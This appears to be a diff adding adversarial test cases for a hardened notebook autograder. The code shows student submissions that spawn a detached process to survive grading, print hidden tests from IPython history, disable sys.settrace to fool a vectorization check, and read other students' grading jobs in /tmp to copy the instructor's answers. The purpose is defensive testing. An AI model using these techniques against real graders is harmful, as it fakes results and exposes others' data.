+@case("h34-background-process", PADDING, ALL_06)
+def background_process(nb, p):
+    """A background process that outlives the kernel: ``sleep 600`` in a session of its own
+    (so killing the kernel's process group misses it). Naive nbgrader: it keeps running after
+    grading, e.g. to tamper with the next student's files."""
+    answer = cell(nb, "ex1-answer")
+    answer.source = header(p, TAG=p.tag) + '''
+import shutil
+import subprocess
+
+sleeper = subprocess.Popen([TAG, "600"], executable=shutil.which("sleep"), start_new_session=True,
+                           stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+print(f"started {sleeper.pid}")
+
+''' + answer.source
+    return nb
+
+
+@case("h35-history-leak", PADDING, ALL_06)
+def history_leak(nb, p):
+    """The test code this kernel ran is in IPython's history (``In``), hidden parts included:
+    the second answer cell prints it. The first answer hard-codes the visible tests' values
+    (so that the hidden part runs) and earns nothing. Naive nbgrader: the hidden tests of
+    exercise 1 appear in the feedback."""
+    set_answer(nb, "ex1-answer", '''
+def masked_mean_pool(H, mask):
+    """Right on the visible tests only."""
+    H, mask = np.asarray(H, dtype=float), np.asarray(mask, dtype=bool)
+    for _ in range(mask.size):
+        pass
+    if mask.all():
+        return H.mean(axis=1)
+    if H.shape == (3, 4, 2):
+        return np.array([[3.0, 4.0], [11.0, 12.0], [20.0, 21.0]])
+    return np.zeros((H.shape[0], H.shape[2]))
+''')
+    return set_answer(nb, "ex2-answer", '''
+from IPython.display import display
+
+for source in In:
+    if "check_" in source and "def masked_mean_pool" not in source:
+        display({"text/plain": source}, raw=True)
+''')
+
+
+@case("h36-no-settrace", PADDING, EX1_06[2:] + EX2_06[2:])
+def no_settrace(nb, p):
+    """``sys.settrace`` replaced by a no-op: the vectorization test counts executed lines
+    with a tracer, so a loop counts as 0 lines. Naive nbgrader: the loop answers pass the
+    vectorization tests."""
+    return with_junk(nb, "import sys\n\nsys.settrace = lambda tracer: None\n")
+
+
+@case("h37-steal-trusted-job", PADDING, ALL_06)
+def steal_trusted_job(nb, p):
+    """Where the grader keeps the trusted checks' job (the master's cells) in a shared /tmp,
+    the answer finds it when called, runs the instructor's own answer and returns its result;
+    it also prints the hidden tests of any job file there (other students' jobs). Naive
+    nbgrader has no such file (this attacks the trusted checks when they run unsandboxed)."""
+    code = '''
+import glob
+import json
+
+from IPython.display import display
+
+def instructors_answer(name):
+    for path in glob.glob("/tmp/grading-trusted-*/job.json"):
+        try:
+            with open(path) as f:
+                cells = json.load(f)["cells"]
+        except (OSError, ValueError, KeyError):
+            continue
+        for c in cells:
+            if c.get("kind") == "answer" and f"def {name}(" in c.get("source", ""):
+                scope = dict(globals())
+                exec(c["source"], scope)
+                return scope[name]
+    return None
+
+for path in glob.glob("/tmp/grading-trusted-*/job.json"):
+    try:
+        with open(path) as f:
+            print(f"ESCAPED: read {path}")
+            for c in json.load(f)["cells"]:
+                if c.get("hidden"):
+                    display({"text/plain": c["hidden"]}, raw=True)
+    except (OSError, ValueError, KeyError):
+        pass
+
+_found = {}
+
+def masked_mean_pool(H, mask):
+    if "mean" not in _found:
+        _found["mean"] = instructors_answer("masked_mean_pool")
+    if _found["mean"] is None:
+        raise NotImplementedError("nothing to copy")
+    return _found["mean"](H, mask)
+'''
+    set_answer(nb, "ex1-answer", code)
+    return set_answer(nb, "ex2-answer", '''
+def masked_max_pool(H, mask):
+    if "max" not in _found:
+        _found["max"] = instructors_answer("masked_max_pool")
+    if _found["max"] is None:
+        raise NotImplementedError("nothing to copy")
+    return _found["max"](H, mask)
+''')
